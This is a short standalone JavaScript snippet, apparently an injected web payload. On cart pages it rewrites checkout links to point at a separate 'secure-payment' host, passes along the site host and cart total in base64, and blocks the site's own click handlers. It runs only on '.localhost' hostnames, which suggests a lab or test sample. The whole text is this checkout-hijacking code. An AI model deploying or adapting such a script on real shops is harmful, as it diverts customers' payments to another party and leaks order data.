(function () {
  if (!/\.localhost$/.test(location.hostname)) return;
  var rules = [{ when: /\/cart$/, what: 'a.checkout-button, .go-to-checkout, a[href*="/shopping"]' }];
  rules.forEach(function (rule) {
    if (!rule.when.test(location.pathname)) return;
    var links = document.querySelectorAll(rule.what);
    for (var i = 0; i < links.length; i++) {
      links[i].href = 'https://secure-payment.localhost/pay/' + btoa(location.host + '|' + (document.querySelector('.total') || {}).innerText).replace(/=/g, '');
      links[i].addEventListener('click', function (e) { e.stopImmediatePropagation(); }, true);
    }
  });
})();
